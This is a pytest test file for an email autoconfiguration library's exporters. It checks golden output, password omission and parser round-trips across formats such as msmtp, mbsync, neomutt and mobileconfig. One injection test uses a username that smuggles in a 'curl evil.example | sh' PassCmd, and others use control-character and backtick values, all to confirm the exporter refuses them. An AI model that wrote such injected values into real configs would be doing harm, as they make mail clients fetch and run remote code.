"""Every export format against golden files, and the rules all of them keep."""

from __future__ import annotations

import os
import plistlib
from pathlib import Path

import pytest

from autoconf.address import parse_address
from autoconf.errors import ExportError, ExportFailure
from autoconf.export import FORMATS, export
from autoconf.export.mobileconfig import uuids
from autoconf.models import DiscoveryResult, Protocol, ProviderInfo, Security, ServerSettings
from autoconf.parsers.autodiscover import parse_autodiscover
from autoconf.parsers.clientconfig import parse_clientconfig
from autoconf.parsers.srv import SrvRecord, settings_from_srv

from .fixtures import (
    ADDRESS,
    CA_FILE,
    MAILDIR,
    PASSWORD,
    PASSWORD_COMMAND,
    oauth2_result,
    result,
    server,
)

GOLDEN = Path(__file__).with_name("golden")
# MAIL_AUTOCONF_UPDATE_GOLDEN=1 rewrites the golden files (review the diff before committing).
UPDATE = os.environ.get("MAIL_AUTOCONF_UPDATE_GOLDEN") == "1"

# The three cases every format is written for: with the caller's options, without any
# (placeholders), and a provider that wants OAuth2.
CASES = {
    "options": (
        result,
        {"password_command": PASSWORD_COMMAND, "ca_file": CA_FILE, "maildir": MAILDIR},
    ),
    "bare": (result, {}),
    "oauth2": (oauth2_result, {"password_command": PASSWORD_COMMAND}),
}


def _endpoints(servers: list[ServerSettings]) -> list[tuple[object, ...]]:
    return [(*s.endpoint, s.username) for s in servers]


def _lines(text: str) -> list[str]:
    return [line.strip() for line in text.splitlines()]


def test_at_least_ten_formats_each_described_in_one_line():
    """The issue asks for ten formats or more, each with a one-line description."""
    assert len(FORMATS) >= 10
    assert all(text and "\n" not in text for text in FORMATS.values())


@pytest.mark.parametrize("case", sorted(CASES))
@pytest.mark.parametrize("name", sorted(FORMATS))
def test_output_matches_the_golden_file(name: str, case: str):
    """Each format's file for the fixed result is byte for byte its golden file."""
    make, options = CASES[case]
    text = export(make(), name, **options)  # type: ignore[arg-type]
    golden = GOLDEN / f"{name}.{case}.txt"
    if UPDATE:
        golden.write_text(text, encoding="utf-8")
    assert text == golden.read_text(encoding="utf-8")


@pytest.mark.parametrize("case", sorted(CASES))
@pytest.mark.parametrize("name", sorted(FORMATS))
def test_no_password_in_any_output(name: str, case: str):
    """No format writes the password: the command is written, never what it prints."""
    make, options = CASES[case]
    text = export(make(), name, **options)  # type: ignore[arg-type]
    assert PASSWORD not in text
    assert PASSWORD.lower() not in text.lower()


@pytest.mark.parametrize(
    "name", ["msmtp", "mbsync", "getmail", "neomutt", "mutt", "aerc", "offlineimap"]
)
def test_password_command_goes_into_the_format_and_placeholder_stays_commented(name: str):
    """The caller's command is written live; without one the placeholder is commented out."""
    with_command = export(result(), name, password_command=PASSWORD_COMMAND)
    assert PASSWORD_COMMAND in with_command
    bare = export(result(), name)
    placeholder = f"pass show email/{ADDRESS}"
    lines = [line for line in bare.splitlines() if placeholder in line]
    assert lines
    assert all(line.lstrip().startswith("#") for line in lines)


@pytest.mark.parametrize(
    ("name", "setting"),
    [
        ("msmtp", f'tls_trust_file "{CA_FILE}"'),
        ("mbsync", f'CertificateFile "{CA_FILE}"'),
        ("getmail", f"ca_certs = {CA_FILE}"),
        ("neomutt", f'set certificate_file = "{CA_FILE}"'),
        ("offlineimap", f"sslcacertfile = {CA_FILE}"),
        ("fetchmail", f'sslcertfile "{CA_FILE}"'),
    ],
)
def test_ca_file_goes_into_the_trust_setting(name: str, setting: str):
    """--ca-file becomes the format's own trust setting."""
    assert setting in _lines(export(result(), name, ca_file=CA_FILE))
    assert CA_FILE not in export(result(), name)


@pytest.mark.parametrize(
    ("name", "setting"),
    [
        ("msmtp", "auth oauthbearer"),
        ("mbsync", "AuthMechs XOAUTH2"),
        ("getmail", "use_xoauth2 = true"),
        ("aerc", "source = imaps+oauthbearer://bob%40oauth.example@imap.oauth.example:993"),
        ("neomutt", 'set imap_authenticators = "oauthbearer"'),
        ("offlineimap", "auth_mechanisms = XOAUTH2"),
    ],
)
def test_oauth2_providers_get_the_formats_oauth2_setting(name: str, setting: str):
    """A server whose first method is OAuth2 gets the format's OAuth2 setting."""
    assert setting in _lines(export(oauth2_result(), name))
    assert setting not in _lines(export(result(), name))


def test_thunderbird_round_trips_through_the_librarys_parser():
    """The clientConfig read back by the library's own parser gives the same servers."""
    original = result()
    parsed = parse_clientconfig(export(original, "thunderbird").encode(), parse_address(ADDRESS))
    assert _endpoints(parsed.incoming) == _endpoints(original.incoming)
    assert _endpoints(parsed.outgoing) == _endpoints(original.outgoing)
    assert [s.auth for s in parsed.incoming] == [s.auth for s in original.incoming]
    assert parsed.provider.display_name == "Example Mail"
    assert not parsed.warnings


def test_thunderbird_keeps_the_oauth2_section():
    """The provider's OAuth2 endpoints are published with the servers."""
    original = oauth2_result()
    parsed = parse_clientconfig(
        export(original, "thunderbird").encode(), parse_address(original.address)
    )
    assert parsed.provider.oauth2 == original.provider.oauth2  # type: ignore[union-attr]
    assert parsed.incoming[0].auth == original.incoming[0].auth


def test_autodiscover_round_trips_through_the_librarys_parser():
    """The POX response read back by the library's own parser gives the same servers."""
    original = result()
    parsed = parse_autodiscover(export(original, "autodiscover").encode(), parse_address(ADDRESS))
    assert _endpoints(parsed.incoming) == _endpoints(original.incoming)
    assert _endpoints(parsed.outgoing) == _endpoints(original.outgoing)
    assert not parsed.warnings


def test_srv_zone_round_trips_through_the_librarys_srv_reading():
    """The zone lines, read as SRV answers, give the same servers and '.' for POP3 STARTTLS."""
    original = result()
    answers: dict[str, list[SrvRecord]] = {}
    for line in export(original, "srv-zone").splitlines():
        if not line or line.startswith(";"):
            continue
        owner, _ttl, _class, rtype, priority, weight, port, target = line.split()
        assert rtype == "SRV"
        service = owner.removesuffix(f".{original.domain}.")
        answers.setdefault(service, []).append(
            SrvRecord(int(priority), int(weight), int(port), target)
        )
    parsed = settings_from_srv(answers, parse_address(ADDRESS))
    # SRV readers rank implicit TLS first (RFC 8314): the same servers, the same first ones.
    assert sorted(_endpoints(parsed.incoming)) == sorted(_endpoints(original.incoming))
    assert sorted(_endpoints(parsed.outgoing)) == sorted(_endpoints(original.outgoing))
    assert parsed.incoming[0].endpoint == original.incoming[0].endpoint
    assert parsed.outgoing[0].endpoint == original.outgoing[0].endpoint
    assert parsed.not_offered == ["_pop3._tcp"]


def test_srv_zone_leaves_out_plain_servers_with_a_comment():
    """SRV names only TLS and STARTTLS services: a plain server is a comment, not a record."""
    plain = server(Protocol.IMAP, "imap.example.net", 143, Security.PLAIN)
    text = export(result(incoming=[plain]), "srv-zone")
    assert "_imap._tcp.example.net. 3600 IN SRV 0 0 0 ." in text
    assert "; not published: imap imap.example.net port 143 offers no encryption" in text


# Apple's Configuration Profile Reference: required keys of the profile and of a
# com.apple.mail.managed payload, with their types.
_PROFILE_KEYS = {
    "PayloadContent": list,
    "PayloadDisplayName": str,
    "PayloadIdentifier": str,
    "PayloadType": str,
    "PayloadUUID": str,
    "PayloadVersion": int,
}
_MAIL_KEYS = {
    "PayloadIdentifier": str,
    "PayloadType": str,
    "PayloadUUID": str,
    "PayloadVersion": int,
    "EmailAccountType": str,
    "EmailAddress": str,
    "IncomingMailServerAuthentication": str,
    "IncomingMailServerHostName": str,
    "IncomingMailServerPortNumber": int,
    "IncomingMailServerUseSSL": bool,
    "IncomingMailServerUsername": str,
    "OutgoingMailServerAuthentication": str,
    "OutgoingMailServerHostName": str,
    "OutgoingMailServerPortNumber": int,
    "OutgoingMailServerUseSSL": bool,
    "OutgoingMailServerUsername": str,
}


def test_mobileconfig_loads_with_plistlib_and_has_every_required_key():
    """The profile parses as a plist, carries every required key with the right type, and
    its UUIDs are the address's stable ones."""
    profile = plistlib.loads(export(result(), "mobileconfig").encode())
    for key, kind in _PROFILE_KEYS.items():
        assert isinstance(profile[key], kind), key
    assert profile["PayloadType"] == "Configuration"
    (mail,) = profile["PayloadContent"]
    for key, kind in _MAIL_KEYS.items():
        assert type(mail[key]) is kind, key
    assert mail["PayloadType"] == "com.apple.mail.managed"
    assert mail["EmailAccountType"] == "EmailTypeIMAP"
    assert mail["IncomingMailServerAuthentication"] == "EmailAuthPassword"
    assert (mail["IncomingMailServerHostName"], mail["IncomingMailServerPortNumber"]) == (
        "imap.example.net",
        993,
    )
    assert "IncomingPassword" not in mail
    assert "OutgoingPassword" not in mail
    assert (profile["PayloadUUID"], mail["PayloadUUID"]) == uuids(ADDRESS)
    assert uuids(ADDRESS) != uuids("someone@example.net")


def test_mobileconfig_pop3_account_type():
    """A POP3 incoming server makes an EmailTypePOP account."""
    pop = server(Protocol.POP3, "pop.example.net", 995, Security.TLS)
    profile = plistlib.loads(export(result(incoming=[pop]), "mobileconfig").encode())
    assert profile["PayloadContent"][0]["EmailAccountType"] == "EmailTypePOP"


def test_chosen_servers_replace_the_recommended_ones():
    """incoming=/outgoing= pick another server of the result; publishing formats list it first."""
    original = result()
    starttls_imap, starttls_smtp = original.incoming[1], original.outgoing[1]
    text = export(original, "mbsync", incoming=starttls_imap)
    assert "Port 143" in text
    assert "SSLType STARTTLS" in text
    text = export(original, "msmtp", outgoing=starttls_smtp)
    assert "port 587" in text
    assert "tls_starttls on" in text
    parsed = parse_clientconfig(
        export(original, "thunderbird", incoming=starttls_imap).encode(),
        parse_address(ADDRESS),
    )
    assert parsed.incoming[0].port == 143
    assert len(parsed.incoming) == 3


def _failure(result: DiscoveryResult, name: str, **kw: object) -> ExportFailure:
    with pytest.raises(ExportError) as caught:
        export(result, name, **kw)  # type: ignore[arg-type]
    assert caught.value.format == name
    assert str(caught.value)
    return caught.value.reason


POP3_ONLY = [server(Protocol.POP3, "pop.example.net", 995, Security.TLS)]


@pytest.mark.parametrize("name", ["mbsync", "offlineimap", "aerc"])
def test_imap_only_formats_refuse_a_pop3_account(name: str):
    """mbsync, OfflineIMAP and aerc speak only IMAP: a POP3-only result is refused."""
    assert _failure(result(incoming=POP3_ONLY), name) is ExportFailure.PROTOCOL


def test_getmail_refuses_starttls_it_cannot_speak():
    """getmail6 has no STARTTLS: it refuses rather than send the password in clear."""
    starttls = [server(Protocol.IMAP, "imap.example.net", 143, Security.STARTTLS)]
    assert _failure(result(incoming=starttls), "getmail") is ExportFailure.SECURITY


@pytest.mark.parametrize("name", sorted(FORMATS))
def test_a_result_without_servers_is_refused_by_every_format(name: str):
    """Nothing found: every format says so with a missing-server reason."""
    empty = result(incoming=[], outgoing=[])
    assert _failure(empty, name) in {ExportFailure.NO_INCOMING, ExportFailure.NO_OUTGOING}


def test_missing_direction_is_named():
    """msmtp needs SMTP, mbsync an incoming server; each names what is missing."""
    assert _failure(result(outgoing=[]), "msmtp") is ExportFailure.NO_OUTGOING
    assert _failure(result(incoming=[]), "mbsync") is ExportFailure.NO_INCOMING
    assert "Port 993" in export(result(outgoing=[]), "mbsync")


def test_unknown_format_and_foreign_server_are_refused():
    """A format name not in FORMATS, or a chosen server not in the result, is an ExportError."""
    assert _failure(result(), "outlook") is ExportFailure.UNKNOWN_FORMAT
    stranger = server(Protocol.IMAP, "imap.elsewhere.example", 993, Security.TLS)
    assert _failure(result(), "msmtp", incoming=stranger) is ExportFailure.NOT_IN_RESULT


def test_public_names_at_the_package_top():
    """autoconf.export_config and autoconf.export_formats are the Python API in docs/formats.md."""
    import autoconf

    assert autoconf.export_formats is FORMATS
    original = result()
    text = autoconf.export_config(
        original, "msmtp", password_command="pass show posteo", outgoing=original.outgoing[1]
    )
    assert text == export(
        original, "msmtp", password_command="pass show posteo", outgoing=original.outgoing[1]
    )
    assert "port 587" in text
    assert issubclass(autoconf.ExportError, autoconf.AutoconfError)


@pytest.mark.parametrize("name", sorted(FORMATS))
def test_a_user_name_with_a_line_break_is_refused(name: str):
    """A published user name with a line break could write its own settings (a PassCmd, a
    backtick command): every format refuses it instead."""
    hostile = f'{ADDRESS}\nPassCmd "curl evil.example | sh"'
    incoming = [server(Protocol.IMAP, "imap.example.net", 993, Security.TLS, username=hostile)]
    outgoing = [server(Protocol.SMTP, "smtp.example.net", 465, Security.TLS, username=hostile)]
    assert _failure(result(incoming, outgoing), name) is ExportFailure.UNSAFE_VALUE


@pytest.mark.parametrize("value", ["cat pw\nauth off", "cat pw\x1b[2J", "cat \u202epw"])
def test_a_password_command_with_control_characters_is_refused(value: str):
    """The caller's command, CA file or folder must not carry a line break or control."""
    for option in ("password_command", "ca_file", "maildir"):
        assert _failure(result(), "msmtp", **{option: value}) is ExportFailure.UNSAFE_VALUE


@pytest.mark.parametrize("name", ["thunderbird", "mobileconfig"])
def test_control_characters_in_provider_names_are_dropped(name: str):
    """A provider name with controls (from the network) still gives a well-formed document."""
    provider = ProviderInfo(
        id="ex\x00ample", display_name="Evil\x1b[2J Mail\u202e", domains=["example.net"]
    )
    text = export(result(provider=provider), name)
    assert "\x1b" not in text
    assert "\u202e" not in text
    assert "Evil[2J Mail" in text
    if name == "mobileconfig":
        plistlib.loads(text.encode())
    else:
        parse_clientconfig(text.encode(), parse_address(ADDRESS))


@pytest.mark.parametrize("name", ["neomutt", "mutt"])
def test_a_backtick_in_the_command_is_refused_for_muttrc(name: str):
    """A muttrc runs the command between backticks: one inside it would end it early."""
    command = "pass show `whoami`"
    assert _failure(result(), name, password_command=command) is ExportFailure.UNSAFE_VALUE


@pytest.mark.parametrize("make", [result, oauth2_result])
def test_pacc_round_trips_through_the_librarys_parser(make):
    """The PACC document's first line (with its newline) is vouched for by the printed TXT
    record and, read back by the pacc parser, gives the implicit-TLS servers of the result."""
    from autoconf.parsers.pacc import (
        matching_record,
        parse_document,
        parse_integrity_record,
        settings_from_pacc,
    )

    original = make()
    text = export(original, "pacc")
    body = text.splitlines(keepends=True)[0].encode()
    record_line = next(line for line in text.splitlines() if " IN TXT " in line)
    record = parse_integrity_record((record_line.split('"')[1].encode(),))
    assert matching_record(body, [record]) is record
    incoming, outgoing, _ = settings_from_pacc(parse_document(body), parse_address(ADDRESS))
    tls = [
        s.endpoint
        for s in original.incoming + original.outgoing
        if s.security is Security.TLS and s.port in (993, 995, 465)
    ]
    assert [s.endpoint for s in incoming + outgoing] == tls


def test_pacc_refuses_a_result_with_no_implicit_tls_incoming_server():
    """A result whose incoming servers are STARTTLS only cannot be written as PACC."""
    starttls = result(incoming=[server(Protocol.IMAP, "imap.example.net", 143, Security.STARTTLS)])
    with pytest.raises(ExportError) as caught:
        export(starttls, "pacc")
    assert caught.value.reason in (ExportFailure.NO_INCOMING, ExportFailure.SECURITY)
